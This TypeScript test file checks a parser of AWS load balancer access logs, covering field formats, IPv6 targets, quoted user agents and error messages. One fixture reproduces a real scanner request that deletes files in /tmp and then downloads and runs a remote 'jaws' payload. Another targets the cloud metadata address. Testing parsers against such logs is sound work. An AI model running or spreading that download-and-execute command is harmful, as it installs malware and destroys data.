import { describe, expect, test } from 'vitest'
import { collectText } from './collect.ts'
import { type Entry, HEALTHY, LENGTHS, LOAD_BALANCER, lineOf, TARGET_GROUP } from './entry.ts'

/** The entries are those of AWS's user guide ("Example log entries") and of public reports, joined into one line. */

const ARN = TARGET_GROUP
const one = async (line: string) => {
  const { taken, problems } = await collectText(`${line}\n`)
  expect(problems).toEqual([])
  expect(taken).toHaveLength(1)
  return taken[0]
}
const problemOf = async (line: string): Promise<string> => {
  // After one that is right: a file without any is judged as a whole.
  const { problems, unreadable, taken } = await collectText(`${lineOf(HEALTHY)}\n${line}\n`)
  expect({ taken: taken.length, unreadable }).toEqual({ taken: 1, unreadable: 1 })
  expect(problems[0]).toMatchObject({ file: 'stdin', line: 2 })
  return problems[0]?.message ?? ''
}
const changed = (change: Partial<Entry>): string => lineOf({ ...HEALTHY, ...change })

describe('the examples of the user guide', () => {
  test('HTTP', async () => {
    const line = `http 2018-07-02T22:23:00.186641Z ${LOAD_BALANCER} 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - ${ARN} "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"`
    expect(await one(line)).toEqual({
      loadBalancer: LOAD_BALANCER,
      targetGroup: ARN,
      target: '10.0.0.1:80',
      at: Date.UTC(2018, 6, 2, 22, 22, 48, 364),
      answered: Date.UTC(2018, 6, 2, 22, 23, 0, 186) + 0.641,
      status: 200,
      targetStatus: 200,
      isUndelivered: false,
      isUnanswered: false,
      trace: 'Root=1-58337262-36d228ad5d99923122bbe354',
    })
  })

  test('a WebSocket begins when it was opened, and ends when it was closed', async () => {
    const line = `wss 2018-07-02T22:23:00.186641Z ${LOAD_BALANCER} 10.0.0.140:44244 10.0.0.171:8010 0.000 0.001 0.000 101 101 218 786 "GET https://10.0.0.30:443/ HTTP/1.1" "-" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 ${ARN} "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.171:8010" "101" "-" "-"`
    expect(await one(line)).toMatchObject({ status: 101, at: Date.UTC(2018, 6, 2, 22, 22, 48, 364) })
  })

  test('a Lambda function is no target with an address', async () => {
    const line = `http 2018-11-30T22:23:00.186641Z ${LOAD_BALANCER} 192.168.131.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - ${ARN} "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "LambdaInvalidResponse" "-" "-" "-" "-"`
    const request = await one(line)
    expect(request).toMatchObject({ status: 502, targetGroup: ARN, isUnanswered: false })
    expect(request).not.toHaveProperty('target')
    expect(request).not.toHaveProperty('targetStatus')
  })

  test.for(['http', 'https', 'h2', 'grpcs', 'ws', 'wss', 'h3'])('%s is a type', async (type) => {
    expect(await one(changed({ type }))).toMatchObject({ status: 200 })
  })
})

describe('what people have', () => {
  test('a connection that the target never took: kubernetes-sigs/aws-load-balancer-controller users have seen it', async () => {
    const times = ['-1', '-1', '-1'] as const
    const request = await one(changed({ times, status: '504', targetStatus: '-' }))
    expect(request).toMatchObject({
      status: 504,
      isUndelivered: true,
      isUnanswered: true,
      target: '10.0.0.1:80',
    })
    expect(request).not.toHaveProperty('targetStatus')
  })

  test('a request that was delivered and not answered', async () => {
    const times = ['0.001', '-1', '-1'] as const
    expect(await one(changed({ times, status: '502', targetStatus: '-' }))).toMatchObject({
      isUndelivered: false,
      isUnanswered: true,
    })
  })

  test('nobody was there', async () => {
    const times = ['-1', '-1', '-1'] as const
    const request = await one(changed({ target: '-', times, status: '503', targetStatus: '-' }))
    expect(request).toMatchObject({ status: 503, targetGroup: ARN })
    expect(request).not.toHaveProperty('target')
  })

  test('a redirect of a scanner with a space in its URL: no target group (elastic/integrations#3491)', async () => {
    const line =
      'http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 75.100.154.140:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri"'
    expect(await one(line)).not.toHaveProperty('targetGroup')
  })

  test('a malformed request has no trace', async () => {
    const line =
      'https 2020-12-23T00:00:00.000000Z app/alb/50dc6c495c0c9188 198.51.100.7:40000 - -1 -1 -1 400 - 172 370 "GET http://[::ffff:a9fe:a9fe]:443/ HTTP/1.1" "Attacker UA" - - - "-" "-" "-" - 2020-12-22T23:59:59.000000Z "-" "-" "-" "-" "-" "-" "-"'
    expect(await one(line)).toMatchObject({ trace: '-', status: 400 })
  })

  test.for([
    ['2001:db8:0:0:0:0:0:2:8080', '[2001:db8::2]:8080'],
    ['[2001:DB8::2]:8080', '[2001:db8::2]:8080'],
    ['2600:1f16:aaa:bbb::1:8080', '[2600:1f16:aaa:bbb::1]:8080'],
  ])(
    'an IPv6 target %s, with brackets or, as load balancers write it, without',
    async ([target = '', shown = '']) => {
      expect(
        await one(changed({ target, client: '2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718' })),
      ).toMatchObject({
        target: shown,
      })
    },
  )

  test.for([
    String.raw`a \x22quoted\x22 agent`,
    String.raw`\"nlpproject.info research\"`,
    String.raw`\" \"`,
    'a"quoted"agent',
    String.raw`ends with a backslash \ `.trim(),
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
    '',
  ])('the user agent %s', async (userAgent) => {
    expect(await one(changed({ userAgent }))).toMatchObject({ targetGroup: ARN, trace: HEALTHY.trace })
  })

  test('a user agent cannot make itself a target group', async () => {
    const userAgent = String.raw`x\" - - arn:aws:elasticloadbalancing:a:1:targetgroup/other/1 t a b 1 - y`
    expect(await one(changed({ userAgent }))).toMatchObject({ targetGroup: ARN })
  })

  test.for(LENGTHS)('a line with %i fields', async (length) => {
    const request = await one(lineOf(HEALTHY, length))
    // Without the 22nd: 0.086 + 0.048 + 0.037 s before 02.186641.
    const at = length < 22 ? Date.UTC(2026, 9, 5, 10, 4, 2, 15) + 0.641 : Date.UTC(2026, 9, 5, 10, 4, 2, 15)
    expect(request?.at).toBeCloseTo(at, 2)
    expect(request?.trace).toBe(HEALTHY.trace)
  })

  test('a WebSocket of an old line says nothing of its beginning, and is not used', async () => {
    const { taken, requests, notes } = await collectText(lineOf({ ...HEALTHY, type: 'ws' }, 21))
    expect({ taken, requests }).toEqual({ taken: [], requests: 1 })
    expect(notes.join()).toContain('1 WebSocket')
  })

  test('a client that left before there was a status', async () => {
    expect(await one(changed({ status: '-', targetStatus: '-' }))).toMatchObject({ status: 0 })
  })
})

describe('what is no entry is said', () => {
  test.for<readonly [change: Partial<Entry>, words: string]>([
    [
      { time: '2026-02-29T10:04:02.186641Z' },
      'field 2 (time) is "2026-02-29T10:04:02.186641Z", expected 2018-',
    ],
    [{ time: '2026-13-01T10:04:02.186641Z' }, 'field 2 (time)'],
    [{ time: '2026-10-05T24:04:02.186641Z' }, 'field 2 (time)'],
    [{ time: '2026-10-05T10:04:02.186641' }, 'field 2 (time)'],
    [{ time: '0000-10-05T10:04:02.186641Z' }, 'field 2 (time)'],
    [{ created: '2026-10-05T10:0' }, 'field 22 (request_creation_time) is "2026-10-05T10:0"'],
    [{ elb: 'net/my-nlb/50dc6c495c0c9188' }, 'field 3 (elb) is "net/my-nlb/50dc6c495c0c9188", expected app/'],
    [{ target: '10.0.0.1' }, 'field 5 (target:port) is "10.0.0.1", expected 10.0.0.1:80 or -'],
    [{ times: ['0.001', 'x', '0.0'] }, 'field 7 (target_processing_time) is "x", expected seconds or -1'],
    [{ status: '2OO' }, 'field 9 (elb_status_code) is "2OO", expected 200 or -'],
    [{ targetGroup: 'my-targets' }, 'field 17 (target_group_arn) is "my-targets", expected arn:… or -'],
    [{ userAgent: 'an "agent" with a quote and a space' }, 'field 17 (target_group_arn)'],
  ])('%o', async ([change, words]) => {
    expect(await problemOf(changed(change))).toContain(words)
  })

  test('cut off within a quoted field', async () => {
    expect(await problemOf(lineOf(HEALTHY).split('/7.46')[0] ?? '')).toBe(
      'a field has no closing quote: the line is cut off',
    )
  })

  test('too few fields', async () => {
    expect(await problemOf(lineOf(HEALTHY, 17))).toBe('17 fields, expected 18 or more')
  })

  test('a long field is shown in part', async () => {
    expect(await problemOf(changed({ status: 'x'.repeat(10_000) }))).toHaveLength(
      'field 9 (elb_status_code) is "", expected 200 or -'.length + 61,
    )
  })
})

test.for([
  ['2016-12-31T23:59:60.500000Z', Date.UTC(2017, 0, 1) + 500],
  ['9999-12-31T23:59:59.999999Z', Date.UTC(9999, 11, 31, 23, 59, 59, 999) + 0.999],
  ['2000-02-29T00:00:00Z', Date.UTC(2000, 1, 29)],
  ['2026-10-05T10:04:02.186641123Z', Date.UTC(2026, 9, 5, 10, 4, 2, 186) + 0.641],
] as const)('the time %s', async ([time, at]) => {
  expect((await one(changed({ time })))?.answered).toBeCloseTo(at, 2)
})
